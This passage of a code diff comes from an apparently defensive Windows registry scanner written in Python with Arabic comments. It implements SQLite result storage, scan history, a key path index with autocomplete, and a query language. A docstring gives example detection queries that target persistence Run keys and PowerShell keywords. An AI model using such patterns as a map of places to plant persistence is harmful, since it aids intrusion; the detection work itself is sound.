+            "count = count + excluded.count, matched = matched + excluded.matched, "
+            f"samples = CASE WHEN nsamples >= {VALUE_GROUP_SAMPLES} THEN samples ELSE samples || char(10) || excluded.samples END, "
+            "nsamples = nsamples + excluded.nsamples",
+            [(g["id"], g["value_name"], g["value_type"], g["value_str"][:VALUE_GROUP_PREVIEW], g["count"], g["matched"],
+              len(g["samples"]), "\n".join(g["samples"])) for g in groups])
+
+    def _add_artifacts(self, first_id: int, rows: List[Dict[str, Any]]):
+        self._db.executemany("INSERT INTO artifacts VALUES (?, ?, ?)",
+                             [(first_id + i, kind, a) for i, r in enumerate(rows)
+                              for kind, found in (r.get("artifacts") or {}).items() for a in found])
+
+    def _drop_from_groups(self, where: str, args: Tuple[Any, ...]):
+        counts = self._db.execute(f"SELECT grp, COUNT(*), SUM(matched) FROM rows WHERE deleted = 0 AND {where} GROUP BY grp", args).fetchall()
+        self._db.executemany("UPDATE groups SET count = count - ?, matched = matched - ? WHERE id = ?",
+                             [(n, m or 0, gid) for gid, n, m in counts])
+
+    def update(self, index: int, row: Dict[str, Any]):
+        self.flush()
+        gid = value_group_id(row)
+        self._drop_from_groups("id = ?", (index + 1,))
+        self._add_groups(value_groups([row], [gid]).values())
+        sets = ", ".join(f"{f} = ?" for f in RESULT_FIELDS)
+        self._db.execute(f"UPDATE rows SET {sets}, grp = ?, data = ? WHERE id = ?",
+                         (*[result_store_value(row, f) for f in RESULT_FIELDS], gid, json.dumps(row, ensure_ascii=False, default=str), index + 1))
+        self._db.execute("DELETE FROM artifacts WHERE rid = ?", (index + 1,))
+        self._add_artifacts(index + 1, [row])
+        self._db.commit()
+        self._pages.pop(index // RESULT_STORE_PAGE, None)
+
+    def mark_deleted(self, index: int):
+        self.flush()
+        found = self._db.execute("SELECT matched, grp, key FROM rows WHERE id = ? AND deleted = 0", (index + 1,)).fetchone()
+        if found is None:
+            return
+        matched, gid, key = found
+        self._drop_from_groups("id = ?", (index + 1,))
+        # المفتاح المحذوف يخرج من نماذج مجموعته (مرة واحدة: قد يتكرر المفتاح بقيم مختلفة في المجموعة نفسها)
+        (samples,) = self._db.execute("SELECT samples FROM groups WHERE id = ?", (gid,)).fetchone() or ("",)
+        keys = [k for k in (samples or "").split("\n") if k]
+        if key in keys:
+            keys.remove(key)
+            self._db.execute("UPDATE groups SET samples = ?, nsamples = ? WHERE id = ?", ("\n".join(keys), len(keys), gid))
+        self._db.execute("UPDATE rows SET deleted = 1 WHERE id = ?", (index + 1,))
+        self._db.commit()
+        if matched:
+            self.matched_count -= 1
+        self.has_deleted = True
+
+    # ----- قراءة بواجهة القائمة
+    def __len__(self) -> int:
+        return self._stored + len(self._pending)
+
+    def _page(self, page: int) -> List[Dict[str, Any]]:
+        rows = self._pages.pop(page, None)
+        if rows is None:
+            lo = page * RESULT_STORE_PAGE
+            cur = self._db.execute("SELECT data FROM rows WHERE id > ? AND id <= ? ORDER BY id", (lo, lo + RESULT_STORE_PAGE))
+            rows = [json.loads(d) for (d,) in cur]
+            if len(self._pages) >= RESULT_STORE_PAGES:
+                self._pages.pop(next(iter(self._pages)))
+        self._pages[page] = rows
+        return rows
+
+    def __getitem__(self, index):
+        if isinstance(index, slice):
+            return [self[i] for i in range(*index.indices(len(self)))]
+        if index < 0:
+            index += len(self)
+        if not 0 <= index < len(self):
+            raise IndexError(index)
+        if index >= self._stored:
+            return self._pending[index - self._stored]
+        return self._page(index // RESULT_STORE_PAGE)[index % RESULT_STORE_PAGE]
+
+    def __delitem__(self, index):
+        # الخيط يقتطع الذيل فقط (تراجع عن مفتاح غير مكتمل/حد المطابقات)
+        if not isinstance(index, slice) or index.stop is not None or index.step not in (None, 1):
+            raise TypeError("ResultStore only supports truncation: del store[mark:]")
+        mark = max(0, index.start or 0)
+        if mark >= self._stored:
+            dropped = self._pending[mark - self._stored:]
+            del self._pending[mark - self._stored:]
+        else:
+            dropped = self._pending
+            self._pending = []
+            (n,) = self._db.execute("SELECT COUNT(*) FROM rows WHERE id > ? AND matched = 1", (mark,)).fetchone()
+            self.matched_count -= n
+            self._drop_from_groups("id > ?", (mark,))
+            self._db.execute("DELETE FROM rows WHERE id > ?", (mark,))
+            self._db.execute("DELETE FROM artifacts WHERE rid > ?", (mark,))
+            self._db.commit()
+            self._stored = mark
+            self._pages.clear()
+        self.matched_count -= len([r for r in dropped if r.get("matched_any")])
+
+    def __iter__(self):
+        """كل الصفوف غير المحذوفة بالترتيب، صفحة بعد صفحة."""
+        self.flush()
+        last = 0
+        while True:
+            batch = self._db.execute("SELECT id, data FROM rows WHERE id > ? AND deleted = 0 ORDER BY id LIMIT ?",
+                                     (last, RESULT_STORE_PAGE)).fetchall()
+            if not batch:
+                return
+            last = batch[-1][0]
+            for _, d in batch:
+                yield json.loads(d)
+
+    # ----- فلترة داخل SQLite
+    def view(self, fields: Optional[List[str]] = None, mode: str = "partial", text: str = "") -> "ResultStoreView":
+        """يبني جدولاً مؤقتاً بمعرّفات الصفوف المطابقة (غير المحذوفة) ويُعيد عرضاً موضعياً عليه."""
+        self.flush()
+        where, args = ["deleted = 0"], []
+        if text and fields:
+            if mode == "exact":
+                cond = "{} = ?"
+            elif mode == "regex":
+                cond = "{} REGEXP ?"
+            else:
+                cond = "instr({}, ?) > 0"
+            where.append("(" + " OR ".join(cond.format(f) for f in fields) + ")")
+            args.extend([text] * len(fields))
+        return self._make_view(" AND ".join(where), args)
+
+    def query_view(self, node: Tuple[Any, ...]) -> "ResultStoreView":
+        """
+        عرض لشجرة استعلام (parse_query). الحقول المستخدمة في مساواة/بادئة/مدى تُفهرس عند أول
+        استعلام عليها فقط، فيبقى الإدراج أثناء الفحص بلا كلفة فهارس.
+        """
+        self.flush()
+        where, args, indexable = compile_query_sql(node, set(RESULT_FIELDS) | {"matched"} | set(ARTIFACT_COLUMNS))
+        for f in sorted(indexable - self._indexed):
+            if f == "artifacts":
+                self._db.execute("CREATE INDEX IF NOT EXISTS ix_artifacts ON artifacts(kind, value COLLATE NOCASE, rid)")
+            else:
+                coll = "" if f in ("last_mod", "matched") or f in RESULT_INT_FIELDS else " COLLATE NOCASE"
+                self._db.execute(f"CREATE INDEX IF NOT EXISTS ix_rows_{f} ON rows({f}{coll})")
+            self._indexed.add(f)
+        return self._make_view(f"deleted = 0 AND ({where})", args)
+
+    def group_view(self) -> "ResultGroupView":
+        self.flush()
+        self._views += 1
+        return ResultGroupView(self, f"groups_{self._views}")
+
+    def group_rows_view(self, gid: int) -> "ResultStoreView":
+        """صفوف مجموعة واحدة؛ فهرس grp يُبنى عند أول تفصيل فقط كما في query_view."""
+        self.flush()
+        if "grp" not in self._indexed:
+            self._db.execute("CREATE INDEX IF NOT EXISTS ix_rows_grp ON rows(grp)")
+            self._indexed.add("grp")
+        return self._make_view("deleted = 0 AND grp = ?", [gid])
+
+    def _make_view(self, where: str, args: List[Any]) -> "ResultStoreView":
+        self._views += 1
+        name = f"view_{self._views}"
+        self._db.execute(f"CREATE TEMP TABLE {name} (pos INTEGER PRIMARY KEY, rid INTEGER)")
+        self._db.execute(f"INSERT INTO {name} (rid) SELECT id FROM rows WHERE {where} ORDER BY id", args)
+        return ResultStoreView(self, name)
+
+    def close(self):
+        try:
+            self._db.close()
+        except Exception:
+            pass
+        try:
+            self.path.unlink()
+        except Exception:
+            pass
+
+class ResultStoreView:
+    """ربط موضع الصف في الجدول المعروض بفهرسه في المخزن، مع صفحات معرّفات مخبأة."""
+    def __init__(self, store: ResultStore, table: str):
+        self.store = store
+        self.table = table
+        (self._len,) = store._db.execute(f"SELECT COUNT(*) FROM {table}").fetchone()
+        self._pages: Dict[int, List[int]] = {}
+
+    def __len__(self) -> int:
+        return self._len
+
+    def __getitem__(self, pos: int) -> int:
+        page = pos // RESULT_STORE_PAGE
+        ids = self._pages.get(page)
+        if ids is None:
+            lo = page * RESULT_STORE_PAGE
+            ids = [rid - 1 for (rid,) in self.store._db.execute(
+                f"SELECT rid FROM {self.table} WHERE pos > ? AND pos <= ? ORDER BY pos", (lo, lo + RESULT_STORE_PAGE))]
+            if len(self._pages) >= RESULT_STORE_PAGES:
+                self._pages.pop(next(iter(self._pages)))
+            self._pages[page] = ids
+        return ids[pos % RESULT_STORE_PAGE]
+
+    def drop(self):
+        try:
+            self.store._db.execute(f"DROP TABLE IF EXISTS {self.table}")
+        except Exception:
+            pass
+
+class ResultGroupView:
+    """المجموعات مرتبة تنازلياً بعددها في جدول مؤقت، وتُقرأ صفحةً صفحة كصفوف المخزن."""
+    def __init__(self, store: ResultStore, table: str):
+        self.store = store
+        self.table = table
+        store._db.execute(f"CREATE TEMP TABLE {table} (pos INTEGER PRIMARY KEY, gid INTEGER)")
+        store._db.execute(f"INSERT INTO {table} (gid) SELECT id FROM groups WHERE count > 0 ORDER BY count DESC, matched DESC")
+        (self._len,) = store._db.execute(f"SELECT COUNT(*) FROM {table}").fetchone()
+        self._pages: Dict[int, List[Dict[str, Any]]] = {}
+
+    def __len__(self) -> int:
+        return self._len
+
+    def __getitem__(self, pos: int) -> Dict[str, Any]:
+        page = pos // RESULT_STORE_PAGE
+        groups = self._pages.get(page)
+        if groups is None:
+            lo = page * RESULT_STORE_PAGE
+            cur = self.store._db.execute(
+                f"SELECT g.id, g.value_name, g.value_type, g.value_str, g.count, g.matched, g.samples FROM {self.table} v "
+                f"JOIN groups g ON g.id = v.gid WHERE v.pos > ? AND v.pos <= ? ORDER BY v.pos", (lo, lo + RESULT_STORE_PAGE))
+            groups = [{"id": gid, "value_name": name, "value_type": vtype, "value_str": text, "count": n, "matched": m,
+                       "samples": [k for k in (samples or "").split("\n") if k][:VALUE_GROUP_SAMPLES]}
+                      for gid, name, vtype, text, n, m, samples in cur]
+            if len(self._pages) >= RESULT_STORE_PAGES:
+                self._pages.pop(next(iter(self._pages)))
+            self._pages[page] = groups
+        return groups[pos % RESULT_STORE_PAGE]
+
+    def drop(self):
+        try:
+            self.store._db.execute(f"DROP TABLE IF EXISTS {self.table}")
+        except Exception:
+            pass
+
+# ================ قاعدة بيانات سجل الفحوص ================
+HISTORY_DB = APP_DIR / "history.sqlite"
+HISTORY_QUERY_LIMIT = 2000
+HISTORY_BATCH = 5000
+# الحقول المفهرسة القابلة للبحث (بترتيب قائمة الحقول في تبويب السجل)
+HISTORY_FIELDS = ["key", "value_name", "value_type", "owner", "matched_kw", "matched_rule", "host"]
+RESULT_COLUMNS_HISTORY = ["run_id", "key", "value_name", "value_str", "matched_kw", "value_type",
+                          "last_mod", "owner", "state", "matched_rule", "reasons", "obf_score", "host"]
+
+def rules_fingerprint(rules: List[RuleSpec]) -> str:
+    """بصمة ثابتة لمجموعة القواعد (العنوان/المستوى/المسندات) للمقارنة بين الفحوص."""
+    payload = sorted(
+        [r.title, r.level, sorted([p["type"], str(p.get("value", ""))] for p in r.predicates)] for r in rules
+    )
+    return hashlib.sha256(json.dumps(payload, ensure_ascii=False).encode("utf-8")).hexdigest()[:16] if rules else ""
+
+def _like_prefix(text: str) -> str:
+    return text.replace("^", "^^").replace("%", "^%").replace("_", "^_") + "%"
+
+class ScanHistory:
+    """
+    كل فحص مكتمل = صف في runs + صفوفه في results. أعمدة البحث مُعرّفة COLLATE NOCASE
+    (السجل غير حساس لحالة الأحرف) ومفهرسة، فالمساواة والبحث بالبادئة (LIKE 'x%') يستخدمان الفهرس.
+    """
+    def __init__(self, path: Path = HISTORY_DB):
+        self.path = path
+        self._db = sqlite3.connect(str(path), timeout=30, check_same_thread=False)
+        self._db.execute("PRAGMA journal_mode=WAL")
+        self._db.execute("PRAGMA synchronous=NORMAL")
+        self._db.execute("PRAGMA cache_size=-32768")
+        self._db.create_function("regexp", 2, _sql_regexp)
+        self._db.executescript("""
+            CREATE TABLE IF NOT EXISTS runs (
+                id INTEGER PRIMARY KEY, started TEXT, duration REAL, tab TEXT,
+                criteria TEXT, rules TEXT, rules_hash TEXT,
+                total INTEGER, matched INTEGER, stored INTEGER, host TEXT COLLATE NOCASE
+            );
+            CREATE TABLE IF NOT EXISTS results (
+                id INTEGER PRIMARY KEY, run_id INTEGER NOT NULL,
+                key TEXT COLLATE NOCASE, value_name TEXT COLLATE NOCASE, value_str TEXT,
+                value_type TEXT COLLATE NOCASE, last_mod TEXT, owner TEXT COLLATE NOCASE, state TEXT,
+                matched_kw TEXT COLLATE NOCASE, matched_rule TEXT COLLATE NOCASE, rule_level TEXT,
+                reasons TEXT, matched INTEGER, user TEXT COLLATE NOCASE, obf_score INTEGER,
+                host TEXT COLLATE NOCASE
+            );
+            CREATE INDEX IF NOT EXISTS ix_results_run ON results(run_id);
+            CREATE INDEX IF NOT EXISTS ix_results_last_mod ON results(last_mod);
+        """)
+        # قواعد سجل أُنشئت قبل وسم النتائج بالمستخدم
+        columns = {r[1] for r in self._db.execute("PRAGMA table_info(results)")}
+        if "user" not in columns:
+            self._db.execute("ALTER TABLE results ADD COLUMN user TEXT COLLATE NOCASE")
+        if "obf_score" not in columns:
+            self._db.execute("ALTER TABLE results ADD COLUMN obf_score INTEGER")
+        # الجهاز المصدر لنتائج الفرز الدفعي (فارغ لفحوص هذا الجهاز)
+        if "host" not in columns:
+            self._db.execute("ALTER TABLE results ADD COLUMN host TEXT COLLATE NOCASE")
+        if "host" not in {r[1] for r in self._db.execute("PRAGMA table_info(runs)")}:
+            self._db.execute("ALTER TABLE runs ADD COLUMN host TEXT COLLATE NOCASE")
+        self._db.execute("CREATE INDEX IF NOT EXISTS ix_runs_tab_host ON runs(tab, host)")
+        for f in HISTORY_FIELDS:
+            self._db.execute(f"CREATE INDEX IF NOT EXISTS ix_results_{f} ON results({f})")
+        self._db.commit()
+
+    def record_run(self, started: str, duration: float, tab: str, crit: Criteria,
+                   rules: List[RuleSpec], total: int, rows, host: str = "") -> int:
+        cur = self._db.execute(
+            "INSERT INTO runs (started, duration, tab, criteria, rules, rules_hash, total, matched, stored, host) "
+            "VALUES (?,?,?,?,?,?,?,0,0,?)",
+            (started, round(duration, 3), tab, json.dumps(asdict(crit), ensure_ascii=False),
+             json.dumps([{"path": r.path, "title": r.title, "level": r.level} for r in rules], ensure_ascii=False),
+             rules_fingerprint(rules), total, host))
+        run_id = cur.lastrowid
+        stored = matched = 0
+        batch = []
+        for r in rows:
+            batch.append((run_id, r.get("key", ""), r.get("value_name", ""), r.get("value_str", ""),
+                          r.get("value_type", ""), r.get("last_mod", ""), r.get("owner", ""), r.get("state", ""),
+                          r.get("matched_kw", ""), r.get("matched_rule", ""), r.get("rule_level", ""),
+                          json.dumps(r.get("reasons", []), ensure_ascii=False), 1 if r.get("matched_any") else 0,
+                          r.get("user", ""), r.get("obf_score"), host))
+            matched += 1 if r.get("matched_any") else 0
+            if len(batch) >= HISTORY_BATCH:
+                self._insert(batch); stored += len(batch); batch = []
+        if batch:
+            self._insert(batch); stored += len(batch)
+        self._db.execute("UPDATE runs SET matched = ?, stored = ? WHERE id = ?", (matched, stored, run_id))
+        self._db.commit()
+        return run_id
+
+    def _insert(self, batch):
+        self._db.executemany(
+            "INSERT INTO results (run_id, key, value_name, value_str, value_type, last_mod, owner, state, "
+            "matched_kw, matched_rule, rule_level, reasons, matched, user, obf_score, host) "
+            "VALUES (?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?)", batch)
+
+    def runs(self, limit: int = 500) -> List[Dict[str, Any]]:
+        cur = self._db.execute(
+            "SELECT id, started, duration, tab, rules_hash, total, matched, stored, host FROM runs ORDER BY id DESC LIMIT ?",
+            (limit,))
+        cols = [d[0] for d in cur.description]
+        return [dict(zip(cols, row)) for row in cur]
+
+    def delete_run(self, run_id: int):
+        self._db.execute("DELETE FROM results WHERE run_id = ?", (run_id,))
+        self._db.execute("DELETE FROM runs WHERE id = ?", (run_id,))
+        self._db.commit()
+
+    def delete_host_runs(self, tab: str, host: str):
+        """يحذف فحوص جهاز في دفعة قبل إعادة تسجيله، فاستئناف الدفعة بعد انقطاع لا يكرر نتائجه."""
+        ids = [r[0] for r in self._db.execute("SELECT id FROM runs WHERE tab = ? AND host = ?", (tab, host))]
+        for run_id in ids:
+            self._db.execute("DELETE FROM results WHERE run_id = ?", (run_id,))
+        self._db.execute("DELETE FROM runs WHERE tab = ? AND host = ?", (tab, host))
+        self._db.commit()
+
+    def matched_rows(self, tab: str):
+        """صفوف المطابقات لكل فحوص tab (دفعة): المفتاح، الاسم، القيمة، الكلمة، القاعدة، المستوى، التمويه، الجهاز."""
+        return self._db.execute(
+            "SELECT key, value_name, value_str, matched_kw, matched_rule, rule_level, obf_score, host FROM results "
+            "WHERE matched = 1 AND run_id IN (SELECT id FROM runs WHERE tab = ?)", (tab,))
+
+    def hosts_with(self, text: str, tab: Optional[str] = None) -> List[Dict[str, Any]]:
+        """الأجهزة التي فيها نتائج تطابق استعلام parse_query، مع عدد الصفوف لكل جهاز (اختيارياً ضمن دفعة tab)."""
+        cond, args, _ = compile_query_sql(parse_query(text), set(RESULT_COLUMNS_HISTORY) | {"rule_level", "matched", "user"})
+        sql = f"SELECT host, COUNT(*) AS hits FROM results WHERE host <> '' AND ({cond})"
+        if tab is not None:
+            sql += " AND run_id IN (SELECT id FROM runs WHERE tab = ?)"
+            args = [*args, tab]
+        cur = self._db.execute(sql + " GROUP BY host ORDER BY host", args)
+        return [{"host": h, "hits": n} for h, n in cur]
+
+    def query(self, field_name: Optional[str], text: str, mode: str = "exact",
+              run_id: Optional[int] = None, limit: int = HISTORY_QUERY_LIMIT) -> List[Dict[str, Any]]:
+        """
+        field_name=None يعني أي حقل مفهرس؛ mode: exact | prefix | query (نص بلغة parse_query).
+        الترتيب يُختار بحيث يأتي من الفهرس مباشرة دون فرز: المساواة = الأحدث أولاً، البادئة = حسب الحقل.
+        """
+        where, args = [], []
+        order = " ORDER BY id DESC"
+        if mode == "query" and text:
+            cond, q_args, _ = compile_query_sql(parse_query(text), set(RESULT_COLUMNS_HISTORY) | {"rule_level", "matched", "user"})
+            where.append(f"({cond})"); args.extend(q_args)
+        elif text:
+            fields = HISTORY_FIELDS if field_name is None else [field_name]
+            if mode == "prefix":
+                conds = [f"{f} LIKE ? ESCAPE '^'" for f in fields]
+                args.extend([_like_prefix(text)] * len(fields))
+                order = f" ORDER BY {field_name}" if field_name else ""
+            else:
+                conds = [f"{f} = ?" for f in fields]
+                args.extend([text] * len(fields))
+            where.append("(" + " OR ".join(conds) + ")")
+        if run_id is not None:
+            where.append("run_id = ?"); args.append(run_id)
+        sql = "SELECT * FROM results" + (" WHERE " + " AND ".join(where) if where else "") + order + " LIMIT ?"
+        cur = self._db.execute(sql, (*args, limit))
+        cols = [d[0] for d in cur.description]
+        out = []
+        for row in cur:
+            it = dict(zip(cols, row))
+            try:
+                it["reasons"] = json.loads(it.get("reasons") or "[]")
+            except Exception:
+                it["reasons"] = []
+            it["matched_any"] = bool(it.pop("matched", 0))
+            if it.get("obf_score") is None:
+                it.pop("obf_score", None)
+            out.append(it)
+        return out
+
+    def close(self):
+        try:
+            self._db.close()
+        except Exception:
+            pass
+
+# ================ فهرس مسارات المفاتيح (بحث وإكمال تلقائي) ================
+KEY_INDEX_DB = APP_DIR / "keyindex.sqlite"
+KEY_INDEX_ROOTS = ("HKLM", "HKU")   # HKCU وHKCR وHKCC أسماء بديلة لمسارات تحتهما (canonical_forms)
+KEY_INDEX_REFRESH_HOURS = 12
+KEY_INDEX_BATCH = 5000
+KEY_INDEX_LIMIT = 200
+
+class KeyPathIndex:
+    """
+    جدول مسارات مرتب (COLLATE NOCASE) مع العمق ووقت آخر كتابة وعدد الأبناء لكل مفتاح:
+    الإكمال = أبناء مباشرون بنطاق على (depth, path)، والبادئة نطاق على path، والاسم فهرس على name،
+    والبحث داخل الأسماء عبر FTS5 بمقسّم trigram (أو LIKE إن لم يتوفر). التحديث تزايدي: مفتاح لم يتغير
+    وقته ولا عدد أبنائه لا يُكتب ولا يُعدّد (أبناؤه من الفهرس).
+    """
+    def __init__(self, path: Path = KEY_INDEX_DB):
+        self._db = sqlite3.connect(str(path), timeout=30, check_same_thread=False)
+        self._db.execute("PRAGMA journal_mode=WAL")
+        self._db.execute("PRAGMA synchronous=NORMAL")
+        self._db.executescript("""
+            CREATE TABLE IF NOT EXISTS keys (
+                id INTEGER PRIMARY KEY, path TEXT NOT NULL UNIQUE COLLATE NOCASE, name TEXT COLLATE NOCASE,
+                depth INTEGER, last_write INTEGER, subkeys INTEGER
+            );
+            CREATE INDEX IF NOT EXISTS ix_keys_name ON keys(name);
+            CREATE INDEX IF NOT EXISTS ix_keys_depth_path ON keys(depth, path);
+            CREATE TABLE IF NOT EXISTS meta (k TEXT PRIMARY KEY, v TEXT);
+        """)
+        try:
+            self._db.executescript("""
+                CREATE VIRTUAL TABLE IF NOT EXISTS keys_fts USING fts5(name, content='keys', content_rowid='id', tokenize='trigram');
+                CREATE TRIGGER IF NOT EXISTS keys_ai AFTER INSERT ON keys BEGIN
+                    INSERT INTO keys_fts(rowid, name) VALUES (new.id, new.name);
+                END;
+                CREATE TRIGGER IF NOT EXISTS keys_ad AFTER DELETE ON keys BEGIN
+                    INSERT INTO keys_fts(keys_fts, rowid, name) VALUES ('delete', old.id, old.name);
+                END;
+            """)
+            self.has_fts = True
+        except sqlite3.OperationalError:
+            # SQLite أقدم من 3.34 بلا trigram: البحث داخل الأسماء بمسح فهرس name
+            self.has_fts = False
+        self._db.commit()
+        self._sid = current_user_sid()
+        self._writes = 0
+
+    def close(self):
+        try:
+            self._db.close()
+        except Exception:
+            pass
+
+    def info(self) -> Tuple[int, str]:
+        count = self._db.execute("SELECT COUNT(*) FROM keys").fetchone()[0]
+        row = self._db.execute("SELECT v FROM meta WHERE k = 'updated'").fetchone()
+        return count, row[0] if row else ""
+
+    def is_stale(self) -> bool:
+        updated = self.info()[1]
+        try:
+            return datetime.now() - datetime.strptime(updated, "%Y-%m-%d %H:%M:%S") > timedelta(hours=KEY_INDEX_REFRESH_HOURS)
+        except ValueError:
+            return True
+
+    def _children(self, path: str, depth: int) -> List[str]:
+        lo = path + "\\"
+        cur = self._db.execute("SELECT name FROM keys WHERE depth = ? AND path >= ? AND path < ? ORDER BY path",
+                               (depth + 1, lo, lo + _LIKE_MAX))
+        return [r[0] for r in cur]
+
+    def complete(self, text: str, limit: int = KEY_INDEX_LIMIT) -> List[str]:
+        """أبناء المسار المكتوب الذين يبدأ اسمهم بالمقطع الأخير، بأسماء الخلية كما كُتبت (HKCR/HKCU...)."""
+        text = text.strip()
+        hive, sub = parse_registry_path(text)
+        if hive is None:
+            return [h for h in HIVE_CONST_TO_SHORT.values() if h.startswith(text.upper())]
+        parent, _, partial = sub.rpartition("\\")
+        shown = format_key_path(hive, parent)
+        out: List[str] = []
+        for fh, fs in canonical_forms(hive, parent, self._sid):
+            base = format_key_path(fh, fs)
+            lo = f"{base}\\{partial}"
+            cur = self._db.execute("SELECT path FROM keys WHERE depth = ? AND path >= ? AND path < ? ORDER BY path LIMIT ?",
+                                   (base.count("\\") + 1, lo, lo + _LIKE_MAX, limit))
+            out.extend(shown + p[len(base):] for (p,) in cur)
+        return list(dict.fromkeys(out))[:limit]
+
+    def search(self, text: str, mode: str = "contains", limit: int = KEY_INDEX_LIMIT) -> List[str]:
+        """mode: contains (داخل اسم المفتاح) | name (اسم مطابق) | prefix (بادئة مسار كامل)."""
+        text = text.strip()
+        if not text:
+            return []
+        if mode == "prefix":
+            hive, sub = parse_registry_path(text)
+            if hive is None:
+                return []
+            out: List[str] = []
+            for fh, fs in canonical_forms(hive, sub, self._sid):
+                lo = format_key_path(fh, fs)
+                cur = self._db.execute("SELECT path FROM keys WHERE path >= ? AND path < ? ORDER BY path LIMIT ?",
+                                       (lo, lo + _LIKE_MAX, limit))
+                out.extend(p for (p,) in cur)
+            return out[:limit]
+        if mode == "name":
+            cur = self._db.execute("SELECT path FROM keys WHERE name = ? LIMIT ?", (text, limit))
+        elif self.has_fts and len(text) >= 3:
+            cur = self._db.execute("SELECT k.path FROM keys_fts f JOIN keys k ON k.id = f.rowid "
+                                   "WHERE keys_fts MATCH ? LIMIT ?", ('"' + text.replace('"', '""') + '"', limit))
+        else:
+            cur = self._db.execute("SELECT path FROM keys WHERE name LIKE ? ESCAPE '^' LIMIT ?",
+                                   ("%" + _like_prefix(text), limit))
+        return [p for (p,) in cur]
+
+    def _wrote(self):
+        self._writes += 1
+        if self._writes >= KEY_INDEX_BATCH:
+            self._db.commit()
+            self._writes = 0
+
+    def refresh(self, should_stop=None, progress=None) -> Dict[str, int]:
+        stats = {"keys": 0, "added": 0, "updated": 0, "removed": 0, "reused": 0}
+        for short in KEY_INDEX_ROOTS:
+            self._index_key(HIVE_NAME_TO_CONST[short], short, 0, stats, should_stop, progress)
+        if should_stop and should_stop():
+            # فهرس ناقص: يُعدّ قديماً فيُستكمل عند التشغيل التالي بدل انتظار KEY_INDEX_REFRESH_HOURS
+            self._db.execute("DELETE FROM meta WHERE k = 'updated'")
+        else:
+            self._db.execute("INSERT OR REPLACE INTO meta (k, v) VALUES ('updated', ?)",
+                             (datetime.now().strftime("%Y-%m-%d %H:%M:%S"),))
+        self._db.commit()
+        return stats
+
+    def _index_key(self, handle, path: str, depth: int, stats: Dict[str, int], should_stop, progress):
+        # عمق السجل محدود (512) فالاستدعاء الذاتي آمن، ولا يبقى مفتوحاً إلا مقابض المسار الحالي
+        if should_stop and should_stop():
+            return
+        try:
+            info = winreg.QueryInfoKey(handle)
+            count, last_write = info[0], info[2]
+        except Exception:
+            return
+        stats["keys"] += 1
+        if progress and stats["keys"] % 2000 == 0:
+            progress(stats["keys"])
+        row = self._db.execute("SELECT last_write, subkeys FROM keys WHERE path = ?", (path,)).fetchone()
+        fresh = row is not None and row[0] == last_write and row[1] == count
+        if fresh:
+            names = self._children(path, depth)
+            stats["reused"] += 1
+        else:
+            names = []
+            for i in range(count):
+                try:
+                    names.append(winreg.EnumKey(handle, i))
+                except Exception:
+                    continue
+            # أبناء حُذفوا منذ آخر تحديث: يُحذفون مع كل ما تحتهم (وقد يوجدون دون صف الأب إن قُطع تحديث سابق)
+            current = {n.lower() for n in names}
+            for gone in self._children(path, depth):
+                if gone.lower() in current:
+                    continue
+                gp = f"{path}\\{gone}"
+                cur = self._db.execute("DELETE FROM keys WHERE path = ? OR (path >= ? AND path < ?)",
+                                       (gp, gp + "\\", gp + "\\" + _LIKE_MAX))
+                stats["removed"] += cur.rowcount
+        for name in names:
+            try:
+                with winreg.OpenKey(handle, name, 0, winreg.KEY_READ) as child:
+                    self._index_key(child, f"{path}\\{name}", depth + 1, stats, should_stop, progress)
+            except OSError:
+                continue
+        if fresh or (should_stop and should_stop()):
+            # صف المفتاح (وقته وعدد أبنائه) يُكتب بعد اكتمال شجرته فقط: شجرة قُطعت تُعدَّد من جديد في التحديث التالي
+            return
+        if row is None:
+            self._db.execute("INSERT INTO keys (path, name, depth, last_write, subkeys) VALUES (?,?,?,?,?)",
+                             (path, path.rpartition("\\")[2], depth, last_write, count))
+            stats["added"] += 1
+        else:
+            self._db.execute("UPDATE keys SET last_write = ?, subkeys = ? WHERE path = ?", (last_write, count, path))
+            stats["updated"] += 1
+        self._wrote()
+
+_KEY_INDEX: Optional[KeyPathIndex] = None
+
+def key_index() -> KeyPathIndex:
+    """اتصال القراءة المشترك لخيط الواجهة (البناء يجري باتصال مستقل في KeyIndexBuilder)."""
+    global _KEY_INDEX
+    if _KEY_INDEX is None:
+        _KEY_INDEX = KeyPathIndex()
+    return _KEY_INDEX
+
+class KeyIndexBuilder(QThread):
+    progress = pyqtSignal(int)
+    finished = pyqtSignal(object)   # إحصاءات التحديث
+
+    def __init__(self):
+        super().__init__()
+        self._stop = False
+
+    def stop(self): self._stop = True
+
+    def run(self):
+        stats: Dict[str, int] = {}
+        try:
+            idx = KeyPathIndex()
+            try:
+                stats = idx.refresh(lambda: self._stop, self.progress.emit)
+            finally:
+                idx.close()
+        except Exception:
+            traceback.print_exc()
+        self.finished.emit(stats)
+
+def attach_key_completer(edit: QLineEdit):
+    """إكمال تلقائي لمسارات المفاتيح من الفهرس: القائمة تُحدَّث عند كل تعديل بأبناء المسار المكتوب."""
+    model = QStringListModel(edit)
+    comp = QCompleter(model, edit)
+    comp.setCaseSensitivity(Qt.CaseInsensitive)
+    comp.setMaxVisibleItems(15)
+    edit.setCompleter(comp)
+
+    def refill(text: str):
+        try:
+            model.setStringList(key_index().complete(text) if text.strip() else [])
+        except Exception:
+            model.setStringList([])
+    edit.textEdited.connect(refill)
+    return comp
+
+# ================ لغة الاستعلام على النتائج والسجل ================
+"""
+أمثلة:
+  owner:*SYSTEM type:binary key:*\\Run* level:high
+  (rule:Persistence OR kw:powershell) AND NOT state:Access modified:>=2026-10-01
+  name:/^(run|load)$/ modified:2026-10-01..2026-10-18  modified:>-3d  matched:true
+الصيغ: حقل:قيمة (مساواة دون حساسية لحالة الأحرف)، قيمة* (بادئة)، *قيمة* أو نمط بـ * (LIKE)،
+/تعبير/ (Regex)، ‎>= > <= <‎ و a..b (مدى)، "قيمة بمسافات"، AND/OR/NOT و&& || ! - والأقواس.
+كلمة بلا حقل = احتواء في الحقول النصية.
+"""
+QUERY_FIELDS = {
+    "key": "key", "path": "key",
+    "name": "value_name", "value_name": "value_name", "property": "value_name",
+    "value": "value_str", "data": "value_str",
+    "type": "value_type",
+    "owner": "owner",
+    "state": "state",
+    "kw": "matched_kw", "keyword": "matched_kw",
+    "rule": "matched_rule",
+    "level": "rule_level",
+    "modified": "last_mod", "last_mod": "last_mod", "date": "last_mod",
+    "reason": "reasons", "reasons": "reasons",
+    "matched": "matched",
+    "run": "run_id",
+    "user": "user",
+    "host": "host",
+    "obf": "obf_score", "obf_score": "obf_score", "score": "obf_score",
